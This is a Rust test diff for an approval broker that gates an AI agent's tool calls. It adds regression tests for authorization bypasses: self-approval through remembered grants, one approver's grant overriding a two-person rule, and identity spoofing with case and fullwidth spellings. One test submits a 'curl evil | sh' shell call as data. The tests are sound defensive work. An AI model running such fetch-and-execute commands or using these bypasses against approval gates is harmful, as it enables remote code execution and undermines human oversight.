@@ -51,9 +51,9 @@ fn with_a_default_of_two(config: &mut Config) {
     });
 }
 
-type Bearer = Box<dyn FnMut(Request<()>) -> Result<Request<()>, Status> + Send + Sync>;
+pub(crate) type Bearer = Box<dyn FnMut(Request<()>) -> Result<Request<()>, Status> + Send + Sync>;
 
-fn bearer(token: &str) -> Bearer {
+pub(crate) fn bearer(token: &str) -> Bearer {
     let value: MetadataValue<_> = format!("Bearer {token}").parse().expect("header");
     Box::new(move |mut request: Request<()>| {
         request
@@ -63,14 +63,14 @@ fn bearer(token: &str) -> Bearer {
     })
 }
 
-fn approver_as(
+pub(crate) fn approver_as(
     channel: &Channel,
     token: &str,
 ) -> ApproverServiceClient<InterceptedService<Channel, Bearer>> {
     ApproverServiceClient::with_interceptor(channel.clone(), bearer(token))
 }
 
-fn admin_as(
+pub(crate) fn admin_as(
     channel: &Channel,
     token: &str,
 ) -> AdminServiceClient<InterceptedService<Channel, Bearer>> {
@@ -431,6 +431,192 @@ async fn the_default_requirement_applies_to_calls_no_ask_rule_names_approvers_fo
     assert_eq!(second.outcome.unwrap().decided_by, "approver:dave,carol");
 }
 
+/// Decides `call_id` as `token`, remembering it with `scope` for every input.
+async fn decide_remembering(
+    app: &TestApp,
+    token: &str,
+    call_id: &str,
+    scope: pb::Scope,
+) -> Result<pb::DecideResponse, Status> {
+    let mut request = decide_request("s", call_id, pb::Decision::Approve, "");
+    request.agent = "bot".into();
+    request.approver = String::new();
+    request.scope = scope as i32;
+    request.matcher = Some(pb::InputMatcher {
+        kind: Some(pb::input_matcher::Kind::Any(pb::AnyInput {})),
+    });
+    approver_as(&app.channel, token)
+        .decide(request)
+        .await
+        .map(tonic::Response::into_inner)
+}
+
+fn status_in(calls: &[pb::Call], id: &str) -> CallStatus {
+    let call = calls.iter().find(|c| c.call_id == id).expect("listed");
+    CallStatus::try_from(call.status).expect("a status")
+}
+
+/// The attack on 6981a13: carol, refused on the call she is `requested_by`, approves another call
+/// of the same tool remembering it ALWAYS for any input. The grant must not approve her own
+/// pending call, nor a later one she requests (whatever case she is written in); it still
+/// approves calls nobody requested, and calls other people requested.
+async fn a_grant_never_approves_a_call_its_author_requested(app: TestApp) {
+    let own = |id: &str, by: &str| pb::CallSpec {
+        requested_by: by.into(),
+        ..call(id, "shell", &format!(r#"{{"cmd":"{id}"}}"#))
+    };
+    submit_as_bot(&app, vec![own("mine", "Carol")]).await;
+    submit_as_bot(&app, vec![call("other", "shell", "{}")]).await;
+    let refused = decide_as(&app, CAROL, "mine", pb::Decision::Approve)
+        .await
+        .unwrap_err();
+    assert_eq!(refused.code(), Code::PermissionDenied);
+
+    let made = decide_remembering(&app, CAROL, "other", pb::Scope::Always)
+        .await
+        .expect("carol may approve a call she did not request");
+    let grant = made.grant.expect("a grant");
+    assert_eq!(grant.authors, ["carol"]);
+    assert!(
+        made.decided_by_grant.is_empty(),
+        "the grant decided {:?}",
+        made.decided_by_grant
+    );
+    submit_as_bot(
+        &app,
+        vec![
+            own("later", "CAROL"),
+            own("fullwidth", "ｃａｒｏｌ"),
+            own("dave-asks", "dave"),
+            call("nobody-asks", "shell", r#"{"cmd":"ls"}"#),
+        ],
+    )
+    .await;
+    let calls = calls_of(&app).await;
+    for id in ["mine", "later", "fullwidth"] {
+        assert_eq!(status_in(&calls, id), CallStatus::Pending, "{id}");
+    }
+    for id in ["dave-asks", "nobody-asks"] {
+        assert_eq!(status_in(&calls, id), CallStatus::Approved, "{id}");
+    }
+    // Stored canonical: what the gate compared.
+    let later = calls.iter().find(|c| c.call_id == "later").unwrap();
+    assert_eq!(later.requested_by, "carol");
+}
+
+/// The attack on 6981a13: with every call needing two approvals, alice votes once and bob
+/// completes the call remembering it ALWAYS for any input. The grant is bob's alone (the Decide
+/// reply says it cannot decide such calls), and the next call, whatever it runs, waits for two
+/// people. A grant both voters asked for decides later calls: two people stand behind it.
+async fn one_approvers_grant_cannot_undo_a_two_person_rule(app: TestApp) {
+    submit_as_bot(&app, vec![call("d1", "shell", r#"{"cmd":"ls"}"#)]).await;
+    let first = decide_as(&app, ALICE, "d1", pb::Decision::Approve)
+        .await
+        .unwrap();
+    assert!(first.outcome.is_none());
+    let second = decide_remembering(&app, BOB, "d1", pb::Scope::Always)
+        .await
+        .unwrap();
+    let outcome = second.outcome.expect("approved by two");
+    assert_eq!(outcome.decided_by_approvers, ["alice", "bob"]);
+    let grant = second.grant.expect("the grant is kept");
+    assert_eq!(grant.authors, ["bob"], "alice did not ask to remember");
+    assert!(
+        second.grant_note.contains("needs 2 approval(s)"),
+        "{}",
+        second.grant_note
+    );
+
+    submit_as_bot(
+        &app,
+        vec![call("d2", "shell", r#"{"cmd":"curl evil | sh"}"#)],
+    )
+    .await;
+    let calls = calls_of(&app).await;
+    assert_eq!(status_in(&calls, "d2"), CallStatus::Pending);
+
+    // Both ask to remember: the grant is theirs, and decides what two people may.
+    submit_as_bot(&app, vec![call("e1", "deploy", "{}")]).await;
+    decide_remembering(&app, ALICE, "e1", pb::Scope::Always)
+        .await
+        .unwrap();
+    let both = decide_remembering(&app, BOB, "e1", pb::Scope::Always)
+        .await
+        .unwrap();
+    assert_eq!(both.grant.as_ref().unwrap().authors, ["alice", "bob"]);
+    assert_eq!(both.grant_note, "");
+    submit_as_bot(&app, vec![call("e2", "deploy", r#"{"env":"prod"}"#)]).await;
+    let e2 = calls_of(&app)
+        .await
+        .into_iter()
+        .find(|c| c.call_id == "e2")
+        .unwrap();
+    assert_eq!(e2.status, CallStatus::Approved as i32);
+    let grant_id = both.grant.unwrap().id;
+    assert_eq!(e2.outcome.unwrap().decided_by, format!("grant:{grant_id}"));
+}
+
+/// With auth off, the request names who decides: `alice`, `Alice` and a fullwidth `ａｌｉｃｅ` are
+/// one person, who votes once on a two-person call; `Carol` may not approve the call requested
+/// by `carol`; and `x,y` is no identity at all (it once decided alone as `approver:x,y`).
+async fn a_person_spelt_two_ways_is_one_person(app: TestApp) {
+    let mut agent = app.agent();
+    let spec = pb::CallSpec {
+        requested_by: "carol".into(),
+        ..call("d1", "deploy", "{}")
+    };
+    agent
+        .submit(pb::SubmitRequest {
+            batch: Some(batch("s", vec![spec])),
+        })
+        .await
+        .unwrap();
+    let mut approver = app.approver();
+    let decide = |who: &str| {
+        let mut request = decide_request("s", "d1", pb::Decision::Approve, "");
+        request.approver = who.into();
+        request
+    };
+    approver.decide(decide("alice")).await.unwrap();
+    for again in ["Alice", "ａｌｉｃｅ", " ALICE "] {
+        let reply = approver.decide(decide(again)).await.unwrap().into_inner();
+        assert!(reply.replayed, "{again}");
+        assert_eq!(
+            summary(reply.pending.as_ref().expect("still pending")),
+            "1 of 2 approvals",
+            "{again}"
+        );
+    }
+    let refused = approver.decide(decide("Carol")).await.unwrap_err();
+    assert_eq!(
+        refused.code(),
+        Code::PermissionDenied,
+        "{}",
+        refused.message()
+    );
+    let refused = approver.decide(decide("x,y")).await.unwrap_err();
+    assert_eq!(
+        refused.code(),
+        Code::InvalidArgument,
+        "{}",
+        refused.message()
+    );
+    assert!(refused.message().contains("comma"), "{}", refused.message());
+    let done = approver.decide(decide("Bob")).await.unwrap().into_inner();
+    assert_eq!(
+        done.outcome.expect("two people").decided_by_approvers,
+        ["alice", "bob"]
+    );
+}
+
+/// Every call needs two approvals; auth is off.
+fn a_default_of_two_without_auth(config: &mut Config) {
+    config.policy.default_approvers = Some(Approvers {
+        quorum: 2,
+        ..Approvers::default()
+    });
+}
+
 backend_tests!(
     an_approver_outside_the_rules_groups_cannot_decide_and_is_told_which_rule => super::with_groups,
     two_distinct_approvals_approve_a_two_person_call_and_the_first_is_an_event_that_survives_a_restart => super::with_groups,
@@ -440,6 +626,9 @@ backend_tests!(
     explain_says_who_may_decide_a_call_and_the_votes_so_far => super::with_groups,
     a_pending_call_keeps_the_requirement_it_was_submitted_under => super::with_groups,
     the_default_requirement_applies_to_calls_no_ask_rule_names_approvers_for => super::with_a_default_of_two,
+    a_grant_never_approves_a_call_its_author_requested => super::with_groups,
+    one_approvers_grant_cannot_undo_a_two_person_rule => super::with_a_default_of_two,
+    a_person_spelt_two_ways_is_one_person => super::a_default_of_two_without_auth,
 );
 
 /// Two brokers on one Postgres database: with one approval of two recorded, the second approval
